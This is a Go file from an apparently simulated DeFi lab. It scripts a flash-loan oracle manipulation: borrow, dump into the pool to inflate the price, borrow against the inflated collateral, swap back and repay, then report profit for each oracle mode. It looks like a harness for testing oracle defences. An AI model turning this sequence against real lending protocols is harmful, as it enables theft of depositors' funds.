package scenario

import (
	"context"
	"errors"
	"log/slog"
	"math/big"

	"github.com/holiman/uint256"

	"defilab/core/state"
	"defilab/native/flash"
	"defilab/native/lending"
	"defilab/native/safemath"
)

// ExploitParams sizes the manipulation.
type ExploitParams struct {
	// FlashAmount of the debt asset is borrowed and dumped into the pool.
	FlashAmount *uint256.Int
	// Collateral of the attacker's own asset A is deposited.
	Collateral *uint256.Int
	// BorrowAmount of asset B is requested against the inflated price.
	BorrowAmount *uint256.Int
}

// DefaultExploit returns the parameters configured for the lab.
func (l *Lab) DefaultExploit() ExploitParams {
	return ExploitParams{
		FlashAmount:  safemath.Clone(l.amounts.FlashAmount),
		Collateral:   safemath.Clone(l.amounts.Collateral),
		BorrowAmount: safemath.Clone(l.amounts.BorrowAmount),
	}
}

// Report describes one exploit attempt. Prices observed inside the unit are
// reported even when the unit reverted.
type Report struct {
	Oracle  string
	Receipt *state.Receipt
	Err     error

	SpotBefore   *uint256.Int
	SpotDuring   *uint256.Int
	SpotAfter    *uint256.Int
	OracleDuring *uint256.Int
	// FairLimit is the borrow ceiling of the collateral at the pre-unit spot
	// price.
	FairLimit   *uint256.Int
	LimitDuring *uint256.Int

	DebtAfter *uint256.Int
	// ProfitB is the attacker's change in asset B balance; negative on loss.
	ProfitB *big.Int
}

// Committed reports whether the exploit unit committed.
func (r *Report) Committed() bool { return r != nil && r.Receipt.Committed() }

// ErrorReason returns the revert reason or an empty string.
func (r *Report) ErrorReason() string {
	if r == nil || r.Err == nil {
		return ""
	}
	return r.Err.Error()
}

// RunExploit executes flash-borrow B, swap B for A, deposit collateral,
// borrow, swap A back and repay, as a single unit. A revert is an outcome
// and is returned in the report rather than as an error; err is non-nil
// only when the lab could not be inspected.
func (l *Lab) RunExploit(ctx context.Context, p ExploitParams) (*Report, error) {
	a, b := l.CollateralAsset(), l.DebtAsset()
	report := &Report{Oracle: l.Mode}

	spotBefore, err := l.Pool.SpotPrice(a)
	if err != nil {
		return nil, err
	}
	report.SpotBefore = spotBefore
	if report.FairLimit, err = lending.BorrowCeiling(p.Collateral, spotBefore, l.Lending.Params().MaxLTVBps); err != nil {
		return nil, err
	}
	balanceBefore, err := l.Ledger.BalanceOf(b, Attacker)
	if err != nil {
		return nil, err
	}

	receipt, runErr := l.State.Run(ctx, "scenario.exploit", func(ctx context.Context) error {
		return l.Flash.FlashBorrow(ctx, Attacker, b, p.FlashAmount, func(ctx context.Context, loan flash.Loan) error {
			gotA, err := l.Pool.Swap(Attacker, b, loan.Principal, safemath.Zero())
			if err != nil {
				return err
			}
			if report.SpotDuring, err = l.Pool.SpotPrice(a); err != nil {
				return err
			}
			if err := l.Lending.DepositCollateral(Attacker, p.Collateral); err != nil {
				return err
			}
			quote, err := l.Oracle.CurrentPrice(a)
			if err != nil {
				return err
			}
			report.OracleDuring = quote.Price
			if report.LimitDuring, err = l.Lending.AvailableToBorrow(Attacker); err != nil {
				return err
			}
			if err := l.Lending.Borrow(Attacker, p.BorrowAmount); err != nil {
				return err
			}
			if _, err := l.Pool.Swap(Attacker, a, gotA, safemath.Zero()); err != nil {
				return err
			}
			return l.Flash.Repay(loan)
		})
	})
	report.Receipt = receipt
	report.Err = runErr
	var revert *state.RevertError
	if runErr != nil && !errors.As(runErr, &revert) {
		return report, runErr
	}

	if report.SpotAfter, err = l.Pool.SpotPrice(a); err != nil {
		return report, err
	}
	if report.DebtAfter, err = l.Lending.DebtOf(Attacker); err != nil {
		return report, err
	}
	balanceAfter, err := l.Ledger.BalanceOf(b, Attacker)
	if err != nil {
		return report, err
	}
	report.ProfitB = new(big.Int).Sub(balanceAfter.ToBig(), balanceBefore.ToBig())

	level := slog.LevelInfo
	if !report.Committed() {
		level = slog.LevelWarn
	}
	l.logger.Log(ctx, level, "exploit finished",
		slog.String("oracle", l.Mode),
		slog.Bool("committed", report.Committed()),
		slog.String("profit_b", report.ProfitB.String()),
		slog.String("reason", report.ErrorReason()))
	return report, nil
}
